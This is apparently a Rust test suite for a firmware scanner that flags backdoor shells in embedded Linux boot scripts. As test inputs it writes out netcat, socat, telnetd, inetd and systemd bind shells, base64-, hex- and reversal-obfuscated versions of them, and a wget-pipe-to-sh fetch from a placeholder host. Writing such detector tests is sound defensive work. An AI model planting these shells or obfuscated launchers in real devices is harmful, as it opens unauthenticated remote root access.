//! Ways in that are there although the program's file, its name or its command line is not.

use crate::cases::image;
use duecare_base::{Checked, Confidence, Severity};
use duecare_unpack::{Bytes, Node, NodeKind, NodeMeta};

const APPLETS: &str = "\u{7f}ELF\u{1}\u{1}\0\0BusyBox v1.36\0httpd\0nc\0telnetd\0wget\0";

/// The checks of a root file system whose `rcS` has these lines; `->` makes a link.
fn check(script: &str, files: &[(&str, &str)]) -> Checked {
    let meta = NodeMeta { mode: 0o755, ..NodeMeta::default() };
    let rcs = format!("#!/bin/sh\n{script}\n");
    let all = [
        ("bin/sh", "-> busybox"),
        ("bin/busybox", "\u{7f}ELF\u{1}\u{1}\0\0BusyBox v1.36\0wget\0"),
        ("sbin/init", "-> ../bin/busybox"),
        ("etc/inittab", "::sysinit:/etc/init.d/rcS\n"),
        ("etc/init.d/rcS", rcs.as_str()),
    ];
    let nodes = all.iter().chain(files).map(|(path, content)| {
        let kind = match content.strip_prefix("-> ") {
            Some(target) => NodeKind::Symlink(target.to_owned()),
            None => NodeKind::File(Bytes::copy_from_slice(content.as_bytes())),
        };
        Node::new(path.as_bytes(), kind, meta)
    });
    duecare_checks::check(&image(nodes.collect()))
}

/// The worst finding of a check is at least this bad, with at least medium confidence.
fn finds(id: &str, severity: Severity, script: &str, files: &[(&str, &str)]) {
    let checked = check(script, files);
    let found = checked.findings.iter().any(|finding| {
        finding.check.as_str() == id
            && finding.severity >= severity
            && finding.confidence >= Confidence::Medium
    });
    assert!(found, "{id} in {script}: {:#?}", checked.findings);
}

fn is_silent(script: &str, files: &[(&str, &str)]) {
    let checked = check(script, files);
    assert!(checked.findings.is_empty(), "{script}: {:#?}", checked.findings);
    assert!(checked.not_seen.is_empty(), "{script}: {:#?}", checked.not_seen);
}

fn leaves_out(script: &str, word: &str) {
    let checked = check(script, &[]);
    let found = checked.not_seen.iter().any(|(gap, _)| gap.reason.contains(word));
    assert!(found, "{script}: {:#?}", checked.not_seen);
}

#[test]
fn a_program_whose_file_is_missing() {
    let shell = "backdoor-shell-listener";
    let debug = "backdoor-debug-shell";
    let busybox = [("bin/busybox", APPLETS)];
    finds(shell, Severity::Critical, "nc -l -p 4444 -e /bin/sh &", &busybox);
    finds(debug, Severity::Critical, "/bin/busybox --install -s\ntelnetd -l /bin/sh &", &busybox);
    finds("service-telnet", Severity::High, "busybox --install\n/usr/sbin/telnetd &", &busybox);
    finds("service-telnet", Severity::High, "telnetd &", &busybox);
    let mount = "mount -t jffs2 -o rw /dev/mtdblock3 /opt\n/opt/telnetd";
    finds(debug, Severity::Critical, &format!("{mount} -l /bin/sh"), &[]);
    finds("service-telnet", Severity::High, mount, &[]);
    finds("service-telnet", Severity::High, "/tmp/telnetd", &[]);
    let fstab = [("etc/fstab", "/dev/mtdblock5 /app jffs2 rw 0 0\n")];
    finds("service-telnet", Severity::High, "/app/bin/telnetd", &fstab);
    finds(debug, Severity::High, "utelnetd -p 23 -l /bin/sh &", &[]);
    finds(shell, Severity::High, "socat TCP-LISTEN:4444,fork EXEC:/bin/sh &", &[]);
    is_silent("# telnetd -l /bin/sh\n: nc -l -p 1 -e /bin/sh", &busybox);
}

#[test]
fn an_ordinary_service_that_is_absent_stays_low() {
    let checked = check("telnetd &\n/usr/sbin/telnetd", &[]);
    assert_eq!(checked.findings.len(), 1, "{:#?}", checked.findings);
    assert!(checked.findings.iter().all(|finding| finding.severity == Severity::Low));
}

#[test]
fn a_program_under_another_name() {
    let debug = "backdoor-debug-shell";
    let program = ("usr/sbin/telnetd", "\u{7f}ELF\u{1}\u{1}\0\0");
    let link = ("usr/sbin/upd", "-> telnetd");
    finds(debug, Severity::Critical, "/usr/sbin/upd -l /bin/sh", &[program, link]);
    finds(debug, Severity::Critical, "upd -l /bin/sh", &[program, link]);
    for copy in [
        "cp /usr/sbin/telnetd /tmp/x; /tmp/x -l /bin/sh",
        "cp /usr/sbin/telnetd /tmp/; mv /tmp/telnetd /tmp/x; /tmp/x -l /bin/sh",
        "ln -sf ../usr/sbin/telnetd /tmp/x; /tmp/x -l /bin/sh",
        "cp /bin/busybox /tmp/busybox-x; /tmp/busybox-x telnetd -l /bin/sh",
    ] {
        finds(debug, Severity::Critical, copy, &[program]);
    }
    let hidden = ("etc/data", "#!/bin/sh\ntelnetd -l /bin/sh\n");
    finds(debug, Severity::Critical, "cp /etc/data /tmp/s\n/tmp/s", &[program, hidden]);
    is_silent("cp /etc/data /tmp/s; upd", &[("etc/data", "a"), ("usr/sbin/upd", "-> ../bin/a")]);
}

#[test]
fn commands_that_a_text_hides() {
    let debug = "backdoor-debug-shell";
    let program = [("usr/sbin/telnetd", "\u{7f}ELF\u{1}\u{1}\0\0")];
    for hidden in [
        "eval \"$(echo dGVsbmV0ZCAtbCAvYmluL3NoCg== | base64 -d)\"",
        "echo dGVsbmV0ZCAtbCAvYmluL3NoCg== | base64 -d | sh",
        "eval $(echo dGVsbmV0ZCAtbCAvYmluL3NoCg== | openssl base64 -d)",
        "echo 74656c6e657464202d6c202f62696e2f7368 | xxd -r -p | /bin/sh",
        r"printf '\x74elnetd -l /bin/s\150' | sh -s",
        "eval \"$(base64 -d <<< dGVsbmV0ZCAtbCAvYmluL3NoCg==)\"",
        "echo 'hs/nib/ l- dtenlet' | rev | busybox ash",
        "sh <<END\ntelnetd -l /bin/sh\nEND",
        "X=\"telnetd -l\"; eval \"$X /bin/sh\"",
    ] {
        finds(debug, Severity::Critical, hidden, &program);
    }
    leaves_out("wget -O - http://192.0.2.1/x | sh", "made on the device");
    leaves_out("eval \"$(cat /mnt/usb/x)\"", "made on the device");
    leaves_out("eval \"$(openssl enc -d -aes-128-cbc -in /etc/x)\"", "made on the device");
    is_silent("eval \"$(jshn -R /etc/board.json)\"\neval export -- \"A_$B=$C\"", &[]);
    is_silent("eval \"A_$1=\\$2\"\necho 'mount -a' | sh", &[]);
}

#[test]
fn shells_that_answer_whoever_connects() {
    let id = "backdoor-shell-listener";
    let inetd = [("usr/sbin/inetd", "\u{7f}ELF\u{1}\u{1}\0\0")];
    let table = |line| [inetd[0], ("etc/inetd.conf", line)];
    let shell = table("telnet stream tcp nowait root /bin/sh sh -i\n");
    finds(id, Severity::Critical, "inetd", &shell);
    let login = table("99 stream tcp nowait root /bin/login login -f root\n");
    finds(id, Severity::High, "inetd", &login);
    let started = [shell[0], shell[1], ("etc/inittab", "::respawn:/usr/sbin/inetd -f\n")];
    finds(id, Severity::Critical, "mount -a", &started);
    finds(id, Severity::High, "tcpsvd 0 99 /bin/login -f root", &[]);
    finds(id, Severity::High, "while true; do nc -l -p 5 < /tmp/f | /bin/sh > /tmp/f; done &", &[]);
    finds(id, Severity::High, "cat /tmp/f | sh -i 2>&1 | nc -l 5 > /tmp/f", &[]);
    finds(id, Severity::High, "nc -ll -p 4444 -e /bin/sh &", &[]);
    let unit = "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n";
    let socket = "[Socket]\nListenStream=99\nAccept=yes\n";
    let systemd = [
        ("sbin/init", "-> ../lib/systemd/systemd"),
        ("lib/systemd/systemd", "\u{7f}ELF"),
        ("lib/systemd/system/a.socket", socket),
        ("lib/systemd/system/a@.service", unit),
        ("etc/systemd/system/sockets.target.wants/a.socket", "-> /lib/systemd/system/a.socket"),
    ];
    finds(id, Severity::Critical, "", &systemd);
}

#[test]
fn files_that_are_read_in() {
    leaves_out("mount -t jffs2 /dev/mtdblock3 /opt\n. /opt/start.sh", "reads in a file");
    leaves_out("source /etc/nowhere", "reads in a file");
    is_silent("[ -f /etc/nowhere ] && . /etc/nowhere", &[]);
    is_silent("F=/etc/nowhere\nif [ -r \"$F\" ]; then\n  . \"$F\"\nfi", &[]);
}
